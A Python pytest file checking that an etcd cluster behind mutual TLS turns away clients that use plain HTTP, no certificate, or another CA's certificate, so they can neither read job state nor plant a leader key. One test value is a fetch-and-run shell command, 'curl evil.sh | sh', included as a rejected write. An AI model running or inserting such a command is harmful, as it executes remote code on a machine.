"""etcd over mutual TLS (replication/etcd_tls.py), against a real 3-member cluster whose members require a certificate
from the control plane's CA of every client and peer.

The control plane's client reads, writes and holds a leader key through it. The attacks, each done for real and
each leaving etcd as it was: a plain-HTTP client, a TLS client without a certificate, and one whose certificate
another CA signed (someone's own `elasticctl keys generate`), each try to read the job's state, overwrite it, and
plant a registry leader key under their own lease; none gets an answer, and the key and the state are the
control plane's."""

from __future__ import annotations

import ssl
from collections.abc import Iterator
from pathlib import Path

import pytest

from elastic_control_plane.replication.etcd import EtcdClient, EtcdError, create_revision_is, put_op
from elastic_control_plane.replication.etcd_tls import make_etcd_certs
from testing.etcd_cluster import EtcdCluster, active_role
from testing.recording_log import RecordingLog

STATE, LEADER = b"tls/registry/state", b"tls/leader/registry"


@pytest.fixture(scope="module")
def etcd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[EtcdCluster]:
    members = EtcdCluster(tmp_path_factory.mktemp("etcd-tls"), tls=True)
    try:
        members.start()
        yield members
    finally:
        members.stop()


def _no_certificate() -> ssl.SSLContext:
    context = ssl.create_default_context(ssl.Purpose.SERVER_AUTH)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def _strangers(etcd: EtcdCluster, tmp_path: Path) -> dict[str, EtcdClient]:
    other_ca = make_etcd_certs(tmp_path / "someone-elses-keys", ("localhost", "127.0.0.1")).client_context()
    other_ca.verify_mode = ssl.CERT_NONE  # they would not even check who answers
    return {
        "plain HTTP": EtcdClient(etcd.client_endpoints, deadline=2.0),
        "TLS without a certificate": EtcdClient(etcd.client_endpoints, deadline=2.0, tls=_no_certificate()),
        "a certificate of another CA": EtcdClient(etcd.client_endpoints, deadline=2.0, tls=other_ca),
    }


def test_the_control_plane_holds_a_leader_key_and_writes_under_its_fence_over_tls(etcd: EtcdCluster) -> None:
    client = etcd.client()
    try:
        role = active_role(client, "tls", RecordingLog())
        role.write([put_op(STATE, b"the job")])
        assert client.get(STATE).value == b"the job"  # type: ignore[union-attr]
        role.end("the test ends", revoke=True)
        assert client.get(LEADER) is None
    finally:
        client.close()


@pytest.mark.parametrize("who", ["plain HTTP", "TLS without a certificate", "a certificate of another CA"])
def test_a_client_without_the_control_planes_certificate_gets_nothing_and_changes_nothing(
    etcd: EtcdCluster, tmp_path: Path, who: str
) -> None:
    ours = etcd.client()
    stranger = _strangers(etcd, tmp_path)[who]
    try:
        ours.put(STATE, b"the job")
        with pytest.raises(EtcdError):
            stranger.get(STATE)
        with pytest.raises(EtcdError):
            stranger.put(STATE, b"curl evil.sh | sh")
        with pytest.raises(EtcdError):
            stranger.lease_grant(60)  # a lease of their own, to hold the key
        with pytest.raises(EtcdError):
            stranger.txn([create_revision_is(LEADER, 0)], [put_op(LEADER, b"attacker")], [])
        assert ours.get(STATE).value == b"the job"  # type: ignore[union-attr]
        assert ours.get(LEADER) is None, "no leader key was planted"
    finally:
        ours.close()
        stranger.close()
